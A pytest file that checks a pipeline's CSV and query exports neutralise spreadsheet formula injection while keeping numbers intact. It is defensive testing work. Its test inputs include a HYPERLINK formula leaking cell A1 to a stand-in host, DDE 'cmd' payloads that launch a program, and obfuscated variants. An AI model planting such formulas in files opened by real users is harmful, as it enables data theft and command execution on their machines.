"""No cell of a CSV file is a formula to a spreadsheet, and every number is still one."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipelines.publish.export import export_tables
from pipelines.publish.spreadsheets import harmless, harmless_sql
from pipelines.warehouse.files import Warehouse
from tests.pipelines.processes import Billhouse

FORMULAS = (
    '=HYPERLINK("http://example.test/?x="&A1,"details")',
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tharmless, but for the tab",
    "   =1+1",
    "\u00a0=1+1",
    "\ufeff@SUM(1)",
    "\x00=1+1",
    '"=1+1',
    "'=1+1",
    "＝1+1",
    "＠SUM(1)",
    "-",
)
LEFT_ALONE = ("", "a=b", "12.34", "-12.34", "+5", "-1,234.50", "-.5", "-1e5", "-5%", "x-1", "1-2")

_RUN = re.compile("[\t\r\n]|[\x00-\x20\x7f\u00a0\u2000-\u200f\u2028\u2029\u3000\ufeff\"']*[=@＝＠]")


@pytest.fixture(scope="module")
def connection() -> Iterator[duckdb.DuckDBPyConnection]:
    with closing(duckdb.connect()) as connection:
        yield connection


def by_sql(connection: duckdb.DuckDBPyConnection, text: str) -> str:
    row = connection.execute(f"SELECT {harmless_sql('t')} FROM (SELECT ? AS t)", [text]).fetchone()
    assert row is not None
    return str(row[0])


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_become_text(text: str, connection: duckdb.DuckDBPyConnection) -> None:
    assert harmless(text).startswith("'")
    assert harmless(text).replace("'", "") == text.replace("'", "")
    assert by_sql(connection, text) == harmless(text)


@pytest.mark.parametrize("text", LEFT_ALONE)
def test_numbers_and_plain_text_stay(text: str, connection: duckdb.DuckDBPyConnection) -> None:
    assert harmless(text) == text
    assert by_sql(connection, text) == text


@pytest.mark.parametrize("separator", [";", "\t", "|", "\n"])
def test_a_cell_that_another_separator_would_begin(
    separator: str, connection: duckdb.DuckDBPyConnection
) -> None:
    text = f"rent{separator} =1+1{separator}@SUM(1)"
    assert harmless(text) == f"rent{separator}' =1+1{separator}'@SUM(1)"
    assert by_sql(connection, text) == harmless(text)


@given(st.text(alphabet=st.characters(codec="utf-8") | st.sampled_from("=+-@;\t\r\n\"' 0.,%e")))
def test_no_text_at_all_is_run(text: str) -> None:
    with closing(duckdb.connect()) as connection:
        made = harmless(text)
        assert by_sql(connection, text) == made
    # After an apostrophe a cell is text.
    for cell in (made, *re.split("[;|\t\r\n]", made)):
        assert cell.startswith("'") or not _RUN.match(cell)


@pytest.fixture
def published(warehouse: Warehouse) -> Warehouse:
    warehouse.directory.mkdir()
    with closing(duckdb.connect(warehouse.published)) as connection:
        connection.execute(
            "CREATE TABLE facts AS SELECT '=1+1' AS words, -5 AS cents, -1.50::DECIMAL(5, 2) AS"
            " amount, '{\"a\":1}'::JSON AS document, NULL::VARCHAR AS nothing"
        )
    return warehouse


def cells(text: str) -> list[str]:
    return list(csv.reader(io.StringIO(text, newline="")))[1]


def test_an_export_is_harmless_unless_it_is_raw(published: Warehouse, tmp_path: Path) -> None:
    for raw, expected in ((False, "'=1+1"), (True, "=1+1")):
        [file] = export_tables(published, tmp_path / str(raw), "csv", raw=raw)
        assert cells(file.path.read_text()) == [expected, "-5", "-1.50", '{"a":1}', ""]


def test_a_query_is_harmless_unless_it_is_raw(published: Warehouse, billhouse: Billhouse) -> None:
    asked = ("query", "--format", "csv", 'SELECT *, 1 AS "=name" FROM facts')
    harmless_answer, raw_answer = billhouse(*asked).stdout, billhouse(*asked, "--raw").stdout
    assert cells(harmless_answer)[:3] == ["'=1+1", "-5", "-1.50"]
    assert cells(raw_answer)[:3] == ["=1+1", "-5", "-1.50"]
    assert "'=name" in harmless_answer.splitlines()[0]
    assert ",=name" in raw_answer.splitlines()[0]
    refused = billhouse("query", "--raw", "FROM facts")
    assert refused.returncode == 2
    assert "--raw" in refused.stderr
